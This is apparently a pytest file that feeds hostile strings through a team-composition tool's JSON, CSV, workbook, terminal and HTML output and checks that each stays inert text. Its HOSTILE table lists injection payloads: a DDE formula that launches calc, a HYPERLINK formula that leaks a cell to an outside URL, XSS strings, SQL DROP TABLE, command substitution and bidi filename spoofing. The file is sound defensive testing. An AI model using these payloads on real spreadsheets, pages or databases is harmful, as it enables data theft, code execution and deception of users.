"""Names and ids that mean something to a spreadsheet, a terminal, a browser or a database come through as text."""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser
from pathlib import Path

import pytest

import teamforge
import teamforge.records
import teamforge.workbook
from tests.cli.conftest import Command
from tests.cli.files import CHALLENGE, TABLES, save
from tests.unit.workbook.package import formulas_of

HOSTILE = {
    "formula": "=cmd|' /C calc'!A1",
    "link": '=HYPERLINK("http://example.org?"&A1,"click")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "wide": "＝1+1",
    "script": "<script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)',
    "entity": "&lt;b&gt;",
    "sql": '"; DROP TABLE peers; --',
    "markup": "[bold red]x[/] [link=http://example.org]y[/link]",
    "emoji": ":smile:",
    "format": "%s%n{0}{peer!r}$HOME`id`",
    "arabic": "שלום عليكم",
    "override": "abc\u202efdp.exe",
    "isolate": "\u2066P1\u2069",
    "zero width": "P\u200b1",
    "long": "P" * 3000,
    "combining": "Z̷̡͓a̴l̶g̸o̶",
    "comma": 'a,b"c',
}
FIRST = "=+-@＝＋－＠\t\r"


@pytest.fixture(params=HOSTILE, name="text")
def hostile_text(request: pytest.FixtureRequest) -> str:
    return HOSTILE[request.param]


@pytest.fixture
def files(tmp_path: Path, text: str) -> list[str]:
    """Return a pool and a challenge with a text as an id, a seat, a title, a name and an organisation's name."""

    def spoiled(cell: str) -> str:
        return text if cell in {"Q1", "One Council", "Host Council", "Canaryname One"} else cell

    tables = {name: [[spoiled(cell) for cell in row] for row in rows] for name, rows in TABLES.items()}
    seats = [{**CHALLENGE["seats"][0], "id": text}, CHALLENGE["seats"][1]]
    waiver = {**CHALLENGE["waivers"][0], "peer": text, "by": text}
    return save(tmp_path, tables, {**CHALLENGE, "title": text, "id": text, "seats": seats, "waivers": [waiver]})


def test_json_holds_it_exactly(command: Command, files: list[str], text: str) -> None:
    told = command("compose", *files, "--format", "json").json
    assert (told["challenge_id"], told["members"][0]["peer_id"], told["members"][0]["seat"]) == (text, text, text)
    finding = command("conflicts", *files, "--format", "json", "--peer", text).json["findings"][0]
    assert finding["evidence"][0]["path"] == f"{text} — friendship, 2020-01-01… — {text}"


def test_csv_holds_it_behind_a_guard(command: Command, files: list[str], text: str) -> None:
    for arguments in (["compose", "--names"], ["conflicts"], ["check"]):
        rows = list(csv.reader(io.StringIO(command(arguments[0], *files, *arguments[1:], "--format", "csv").out)))
        assert len({len(row) for row in rows}) == 1
        for row in rows:
            for cell in row:
                assert not cell.startswith(tuple(FIRST)), arguments
    rows = list(csv.reader(io.StringIO(command("compose", *files, "--format", "csv").out)))
    assert rows[1][5] == (f"'{text}" if text[0] in FIRST else text)
    assert rows[1][-1].isdigit()


def test_workbooks_hold_it_exactly_and_as_text(command: Command, files: list[str], text: str, tmp_path: Path) -> None:
    """Both the team and the pool with its challenge: no cell is a formula or a link, and all are read back."""
    team, book = tmp_path / "team.xlsx", tmp_path / "pool.xlsx"
    assert command("compose", *files, "--names", "--out", team).status == 0
    assert command("template", book, "--pool", files[0], "--challenge", files[1]).status == 0
    assert formulas_of(team) == formulas_of(book) == []
    assert teamforge.workbook.read_team(team).team.seats[0] == (text, text)
    told = command("compose", book, "--format", "json").json
    assert (told["challenge_id"], told["members"][0]["peer_id"], told["members"][0]["seat"]) == (text, text, text)
    assert command("conflicts", book, "--names").out == command("conflicts", *files, "--names").out


def test_pages_show_it_as_it_is_or_written_out(command: Command, files: list[str], text: str) -> None:
    """Nothing in it controls the terminal; invisible characters are shown by their codes."""
    shown = text
    for sign in "\u202e\u2066\u2069\u200b":
        assert sign not in command("compose", *files, "--names").out
        shown = shown.replace(sign, f"\\u{ord(sign):04x}")
    for arguments in (["compose", "--names"], ["conflicts", "--names"]):
        done = command(arguments[0], *files, *arguments[1:])
        assert done.status == 0
        assert shown in done.out


class Fragment(HTMLParser):
    """What tags, attributes and text a browser sees."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str | None]] = set()
        self.text: list[str] = []
        self.open: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(attrs)
        if tag != "br":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_html_holds_it_as_text(files: list[str], text: str) -> None:
    result = teamforge.compose(teamforge.read_pool(files[0]), teamforge.read_challenge(files[1]))
    page = result._repr_html_()
    seen = Fragment(page)
    assert seen.open == []
    assert seen.tags <= {"div", "table", "thead", "tbody", "tr", "th", "td", "ul", "li", "br"}
    assert {name for name, _ in seen.attributes} <= {"class", "style", "dir", "lang", "scope"}
    assert not [value for _, value in seen.attributes if "url(" in (value or "") or "expression" in (value or "")]
    shown = text
    for sign in "\u202e\u2066\u2069\u200b":
        assert sign not in page
        shown = shown.replace(sign, f"\\u{ord(sign):04x}")
    assert seen.text.count(shown) >= 4
    assert "Canaryname" not in page


def test_faults_show_it_in_one_line(command: Command, files: list[str], text: str) -> None:
    """An unknown id is quoted without control characters."""
    done = command("conflicts", *files, "--peer", f"{text}?")
    assert done.status == 2
    assert not set("\u202e\u2066\u2069\u200b\x1b") & set(done.err)
